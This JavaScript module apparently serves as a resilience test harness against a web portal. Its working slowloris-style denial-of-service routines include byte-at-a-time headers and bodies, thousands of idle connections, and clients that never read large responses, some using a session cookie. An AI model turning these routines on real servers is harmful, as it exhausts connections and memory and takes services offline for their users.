// Connections that cost their owner nothing: idle, slow, and those that never read.
import { pause, raw } from './wire.mjs';

const head = (target, method, path, more = '') => `${method} ${path} HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\nSec-Fetch-Site: same-origin\r\n${more}\r\n`;

/** Opens `many` connections over the time and holds them. */
async function hold(target, seconds, many, text, options) {
  const sockets = [];
  for (let number = 0; number < many; number++) {
    const from = options?.from && options.from[number % options.from.length];
    sockets.push(raw(target, text(number), { ...options, from }));
    if (number % 50 === 49) await pause(5);
  }
  const end = Date.now() + seconds * 1000;
  while (Date.now() < end) {
    await pause(1500);
    if (options?.drip) for (const socket of sockets) if (!socket.destroyed) socket.write(options.drip);
  }
  for (const socket of sockets) socket.destroy();
}

const formHead = 'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n';

export const attacks = {
  '600 strangers, a byte at a time, to /sign-in': (target, seconds) => hold(target, seconds, 600, () => head(target, 'POST', '/sign-in', formHead), { drip: 't' }),
  '600 slow bodies on every route, signed in': (target, seconds) => {
    const paths = ['/requests/new', '/requests/new/import', '/courier/new', '/settings', `/requests/${target.code}/edit`, `/requests/${target.code}/quotation/accept`, `/requests/${target.code}/documents`, '/hooks/forwarding', '/queue/aside', '/', '/nowhere'];
    const parts = 'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 60000\r\n';
    return hold(target, seconds, 600, number => head(target, 'POST', paths[number % paths.length], `Cookie: ${target.cookie}\r\n${number % 2 ? parts : formHead}`), { drip: '-' });
  },
  '10,000 idle connections': (target, seconds) => hold(target, seconds, 10_000, () => ''),
  '14,000 connections, each after one request': (target, seconds) => hold(target, seconds, 14_000, () => head(target, 'GET', '/healthz')),
  '3,000 heads, a header at a time': (target, seconds) => hold(target, seconds, 3_000, () => `GET / HTTP/1.1\r\nHost: ${target.host}\r\n`, { drip: 'X-A: b\r\n' }),
  '300 that ask for pages and never read': (target, seconds) =>
    hold(target, seconds, 300, () => head(target, 'GET', '/requests', `Cookie: ${target.cookie}\r\n`).repeat(50), { reads: false }),
  '300 streams of news that nobody reads': (target, seconds) =>
    hold(target, seconds, 300, () => head(target, 'GET', `/events?code=${target.code}`, `Cookie: ${target.cookie}\r\n`), { reads: false }),
  // Everybody else comes from another address. On one machine these clients' own buffers take a gigabyte and more of the system's memory
  // for connections, beside the portal's half: where that is short (net.ipv4.tcp_mem), pages of the person wait for it.
  '13,000 large answers that two addresses never read': (target, seconds) =>
    hold(target, seconds, 13_000, () => head(target, 'GET', target.file).repeat(3), { reads: false, from: ['127.0.0.2', '127.0.0.3'] }),
  '600 large pages of one person over 600 connections, never read': (target, seconds) =>
    hold(target, seconds, 600, () => head(target, 'GET', '/requests/new', `Cookie: ${target.cookie}\r\n`), { reads: false }),
};
